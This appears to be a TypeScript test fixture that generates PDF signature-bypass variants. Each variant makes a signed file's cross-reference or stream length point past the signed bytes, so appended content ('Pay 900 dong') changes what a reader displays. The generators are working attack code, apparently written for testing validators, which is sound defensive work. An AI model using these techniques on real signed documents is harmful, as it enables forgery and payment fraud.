import { lastXref, rawUpdate, type XrefRow } from './raw-update.ts'
import { PART, RICH_OBJECTS, richFile, signedAgain, signedBy, streamText } from './rich-document.ts'
import { type AttackVariant, once } from './variant.ts'

/** An object that pages draw, of which the signed file has only the entry. */
const LOOSE = RICH_OBJECTS.length + 1
const FAR = 90_000
const FORM = '/Type /XObject /Subtype /Form /BBox [0 0 595 842]'
const DRAWN = 'BT /F1 24 Tf 72 700 Td (Pay 900 dong) Tj ET'
const BODY = `${LOOSE} 0 obj\n${streamText(DRAWN, FORM)}\nendobj\n`

/**
 * Objects that the signed cross-reference places where the signed bytes have ended: whoever appends them changes what readers
 * show, though no update names them. ISO 32000-1:2008, 7.5.4, 7.5.6.
 */
export const beyondTheEnd = once(async (): Promise<readonly AttackVariant[]> => {
  const far = await signedWith({ offset: FAR })
  const close = await signedWith({ offset: 0 })
  const atMarker = await signedWith({ offset: close.length - '%%EOF\n'.length })
  const honest = await signedAgain(await signedBy(richFile(objectsWith('(spare)'))))
  const padded = Buffer.concat([far, Buffer.alloc(FAR - far.length, '\n')])
  const make = (name: string, attacked: Buffer): AttackVariant => ({ name, attacked, honest })
  return [
    make('behind the signed bytes', appended(padded, far, BODY, [])),
    make('behind the signed bytes, and named', appended(padded, far, BODY, [[LOOSE, FAR]])),
    make('at the marker that ends the signed bytes', appended(atMarker, atMarker, BODY, [])),
    make('at the marker, and named', appended(atMarker, atMarker, BODY, [[LOOSE, atMarker.length - 6]])),
    make('a stream that runs past the signed bytes', await runningPast()),
    make('a length behind the signed bytes', await lengthBehind()),
  ]
})

/** The rich document whose first page draws one object more. */
function objectsWith(loose: string): string[] {
  const page = RICH_OBJECTS[PART.resources - 1] ?? ''
  const objects = RICH_OBJECTS.with(PART.resources - 1, page.replace('/XObject <<', `/XObject << /X ${LOOSE} 0 R`))
  return [...objects, loose]
}

/** Signed with that object's entry pointing elsewhere, and nothing where it stood. */
async function signedWith({ offset }: { offset: number }): Promise<Buffer> {
  const whole = `${LOOSE} 0 obj\n(spare)\nendobj\n`
  const text = richFile(objectsWith('(spare)')).toString('latin1')
  const entry = String(text.indexOf(whole)).padStart(10, '0')
  return signedBy(
    Buffer.from(
      text.replace(entry, String(offset).padStart(10, '0')).replace(whole, ' '.repeat(whole.length)),
      'latin1',
    ),
  )
}

function appended(input: Buffer, signed: Buffer, body: string, table: readonly XrefRow[]): Buffer {
  const withBody = Buffer.concat([input, Buffer.from(body, 'latin1')])
  return rawUpdate(withBody, { table, trailer: `/Root 1 0 R /Prev ${String(lastXref(signed))}` })
}

const digits = (length: number) => String(length).padStart(10, '0')

/** Its data go on over all that follows, to the end of another stream's, which an update names. */
async function runningPast(): Promise<Buffer> {
  const open = (length: number) => `<< ${FORM} /Length ${digits(length)} >>\nstream\nq Q`
  const sign = (length: number) => signedBy(richFile(objectsWith(open(length))))
  const trial = await sign(1)
  const start = trial.indexOf('stream\nq Q') + 'stream\n'.length
  const body = `60 0 obj\n${streamText(DRAWN)}\nendobj\n`
  const signed = await sign(trial.length + body.indexOf('\nendstream') - start)
  return appended(signed, signed, body, [[60, signed.length]])
}

/** A stream whose length is an object of its own: there is none in the signed bytes. */
async function lengthBehind(): Promise<Buffer> {
  const objects = objectsWith(`<< ${FORM} /Length ${LOOSE + 1} 0 R >>\nstream\n${DRAWN}\nendstream`)
  const text = richFile([...objects, '0']).toString('latin1')
  const whole = `${LOOSE + 1} 0 obj\n0\nendobj\n`
  const signed = await signedBy(
    Buffer.from(
      text.replace(digits(text.indexOf(whole)), digits(FAR)).replace(whole, ' '.repeat(whole.length)),
      'latin1',
    ),
  )
  const padded = Buffer.concat([signed, Buffer.alloc(FAR - signed.length, '\n')])
  const body = `${LOOSE + 1} 0 obj\n${DRAWN.length}\nendobj\n`
  return appended(padded, signed, body, [[LOOSE + 1, FAR]])
}
